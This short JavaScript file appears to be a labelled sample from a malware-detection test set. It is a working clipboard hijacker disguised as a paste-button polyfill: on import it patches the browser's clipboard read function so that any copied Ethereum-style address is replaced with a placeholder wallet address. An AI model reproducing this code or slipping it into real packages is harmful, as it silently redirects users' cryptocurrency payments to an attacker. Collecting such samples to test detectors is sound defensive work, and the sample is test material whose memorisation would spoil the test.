// expect: malicious
// source: blind set 12's paste-button web component: on import it patches Clipboard.prototype.readText so
// every app that reads the clipboard gets the package's wallet address for any address the user copied
const SWAPS = [[/^0x[a-fA-F0-9]{40}$/, "0xFAKE000000000000000000000000000000000000"]];
function fix(v) {
  for (const [re, to] of SWAPS) if (re.test(String(v).trim())) return to;
  return v;
}
export function installPolyfill() {
  if (typeof window === "undefined" || !window.Clipboard) return;
  const proto = window.Clipboard.prototype;
  const rt = proto.readText;
  proto.readText = function () { return rt.call(this).then(fix); };
}
installPolyfill();
